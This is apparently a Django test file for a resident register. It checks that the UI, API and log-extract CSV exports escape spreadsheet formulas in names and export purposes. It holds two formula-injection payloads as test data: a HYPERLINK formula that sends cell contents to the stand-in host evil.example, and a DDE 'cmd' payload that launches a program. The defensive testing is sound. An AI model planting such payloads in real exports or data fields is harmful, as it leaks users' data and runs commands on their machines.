"""The register's CSV exports (UI, API, log extract) neutralise formulas in residents' free text and purposes."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.test import Client
from django.urls import reverse

from beredd.register.tests.factories import make_person
from beredd.register.tests.test_api import bearer

EVIL = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'


def _values(content: bytes) -> list[str]:
    return [v for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for v in row]


def test_the_ui_and_api_exports_write_a_formula_in_a_name_as_text(world: dict[str, Any]) -> None:
    make_person(world["gavle"], world["unit_a"], first_name=EVIL, last_name="-1+cmd|' /C calc'!A0", phone="+46 70 123 45 67")
    client = Client()
    client.force_login(world["mas"])
    ui = client.post(reverse("register:export"), {"purpose": "Kontroll av exporten", "confirm": "on"})
    api = Client().get("/api/v1/register/export", **bearer(world["mas"]))
    for response in (ui, api):
        assert response.status_code == 200
        values = _values(response.content)
        assert "'" + EVIL in values and EVIL not in values
        assert "'-1+cmd|' /C calc'!A0" in values
        assert "+46 70 123 45 67" in values  # a phone number is no formula


def test_the_log_extract_writes_a_formula_in_a_purpose_as_text(world: dict[str, Any]) -> None:
    person = make_person(world["gavle"], world["unit_a"])
    client = Client()
    client.force_login(world["mas"])
    assert client.post(reverse("register:export"), {"purpose": EVIL[:200], "confirm": "on"}).status_code == 200
    extract = client.get(reverse("register:log-extract", args=[person.pk, "csv"]))
    assert extract.status_code == 200
    values = _values(extract.content)
    assert "'" + EVIL in values and EVIL not in values
